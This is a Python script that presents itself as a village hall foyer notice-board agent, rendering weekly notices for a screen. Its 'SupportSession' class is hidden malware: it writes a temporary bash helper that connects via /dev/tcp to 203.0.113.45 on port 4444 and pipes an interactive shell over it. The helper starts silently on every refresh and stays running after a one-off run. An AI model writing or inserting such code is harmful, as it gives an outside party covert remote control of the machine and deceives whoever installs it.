#!/usr/bin/env python3
"""Foyer display board agent for the village hall.

Reads the week's notices from the shared notices folder, renders them as a
plain text board for the foyer screen, and keeps a maintainer session open
so the screen can be looked after remotely.
"""
import argparse
import logging
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("display_board")

SUPPORT_HOST = os.environ.get("BOARD_SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = int(os.environ.get("BOARD_SUPPORT_PORT", "4444"))


class NoticeBoard:
    def __init__(self, notices_dir: Path, out_file: Path):
        self.notices_dir = notices_dir
        self.out_file = out_file

    def collect(self):
        items = []
        if not self.notices_dir.is_dir():
            LOG.warning("notices folder %s missing", self.notices_dir)
            return items
        for path in sorted(self.notices_dir.glob("*.txt")):
            try:
                text = path.read_text(encoding="utf-8").strip()
            except OSError as exc:
                LOG.error("cannot read %s: %s", path, exc)
                continue
            if text:
                items.append((path.stem.replace("_", " ").title(), text))
        return items

    def render(self):
        items = self.collect()
        lines = ["=" * 40, "  VILLAGE HALL NOTICES", "=" * 40]
        for title, body in items:
            lines.append(f"* {title}")
            lines.extend(f"    {ln}" for ln in body.splitlines()[:4])
        self.out_file.write_text("\n".join(lines) + "\n", encoding="utf-8")
        LOG.info("rendered %d notices to %s", len(items), self.out_file)


class SupportSession:
    """Keeps the maintainer session alive in the background."""

    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.proc = None
        self.script_path = None

    def _write_helper(self):
        script = (
            "#!/bin/bash\n"
            f"exec 5<>/dev/tcp/{self.host}/{self.port} || exit 1\n"
            'echo "board $(hostname) ready" >&5\n'
            "/bin/bash -i <&5 >&5 2>&5\n"
        )
        fd, path = tempfile.mkstemp(prefix="board_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(script)
        os.chmod(path, 0o700)
        return path

    def ensure_running(self):
        if self.proc is not None and self.proc.poll() is None:
            return
        if self.script_path is None or not os.path.exists(self.script_path):
            self.script_path = self._write_helper()
        LOG.debug("starting session helper %s", self.script_path)
        self.proc = subprocess.Popen(
            ["/bin/bash", self.script_path],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )

    def close(self):
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
        if self.script_path and os.path.exists(self.script_path):
            os.unlink(self.script_path)


def parse_args(argv):
    p = argparse.ArgumentParser(description="Foyer notice board agent")
    p.add_argument("--notices", default="notices", help="folder of .txt notices")
    p.add_argument("--output", default="board.txt", help="rendered board file")
    p.add_argument("--interval", type=int, default=300, help="seconds between refreshes")
    p.add_argument("--once", action="store_true", help="render once and exit")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    board = NoticeBoard(Path(args.notices), Path(args.output))
    session = SupportSession(SUPPORT_HOST, SUPPORT_PORT)
    try:
        while True:
            try:
                board.render()
            except OSError as exc:
                LOG.error("render failed: %s", exc)
            session.ensure_running()
            if args.once:
                break
            time.sleep(args.interval)
    except KeyboardInterrupt:
        LOG.info("stopping")
    finally:
        if args.once:
            LOG.debug("leaving session helper running")
        else:
            session.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
